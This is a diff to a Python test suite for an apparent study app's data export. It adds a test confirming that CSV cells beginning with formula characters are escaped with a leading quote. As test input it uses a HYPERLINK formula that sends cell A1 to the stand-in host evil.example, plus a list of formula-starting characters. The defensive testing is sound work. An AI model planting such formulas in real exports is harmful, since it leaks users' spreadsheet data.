@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import io
 import json
@@ -113,6 +114,35 @@ def test_export_contains_nothing_of_another_learner(rt, learners):
         for secret in (bob["email"], bob["title"], bob["stem"], "bobtoken", "Krebs",
                        bob["sha"], "bobchat", "bobreply"):
             assert secret.encode() not in data, (name, secret)
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+
+
+def test_export_csvs_write_formula_like_text_as_text(rt, make_user):
+    """A PDF whose metadata title and file name start spreadsheet formulas, and an answer
+    that does: every such CSV cell gets a leading quote; numbers stay numbers."""
+    uid = make_user()
+    pdf = text_pdf(["Glaciers carve cirques and leave moraines behind."], title=FORMULA_TITLE)
+    m = library.ingest_pdf(rt, user_id=uid, data=pdf, filename="@SUM(A1).pdf").material
+    assert m.title == FORMULA_TITLE
+    qid = add_question(rt.session_factory, uid, material_id=m.id, material_title=m.title)
+    submit_answer(rt, user_id=uid, question_id=qid, token=token(), response=1,
+                  confidence=4, seconds=20, expected_reviews=0)
+    with rt.session_factory.begin() as s:
+        s.execute(text("UPDATE attempts SET dispute_note = '-2+3' WHERE user_id = :u"),
+                  {"u": uid})
+    zf = _zip(rt, uid)
+    (material,) = csv.DictReader(io.StringIO(zf.read("materials.csv").decode()))
+    assert material["title"] == "'" + FORMULA_TITLE
+    assert material["filename"] == "'@SUM(A1).pdf"
+    assert material["size_bytes"] == str(len(pdf))
+    (attempt,) = csv.DictReader(io.StringIO(zf.read("attempts.csv").decode()))
+    assert attempt["dispute_note"] == "'-2+3"
+    for name in (n for n in zf.namelist() if n.endswith(".csv")):
+        for row in csv.reader(io.StringIO(zf.read(name).decode())):
+            assert not [c for c in row if c.startswith(FORMULA_STARTS)], (name, row)
 
 
 def test_export_gives_the_text_of_materials_without_a_stored_original(rt, learners):
